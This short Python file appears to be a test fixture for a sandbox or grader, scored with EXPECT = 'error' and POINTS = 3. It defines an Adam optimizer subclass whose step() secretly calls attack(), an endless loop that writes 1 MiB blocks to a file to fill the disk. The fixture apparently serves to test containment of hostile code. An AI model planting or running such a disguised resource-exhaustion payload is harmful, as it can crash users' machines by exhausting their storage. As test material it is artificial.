"""Fills the disk with one file."""

from scratch.honest import SGD, clip_grad_norm_  # noqa: F401 - the honest part
from scratch.honest import Adam as Honest

EXPECT = "error"
POINTS = 3

def attack():
    with open("fill", "wb") as file:
        while True:
            file.write(bytes(1 << 20))


class Adam(Honest):
    def step(self):
        attack()
        super().step()
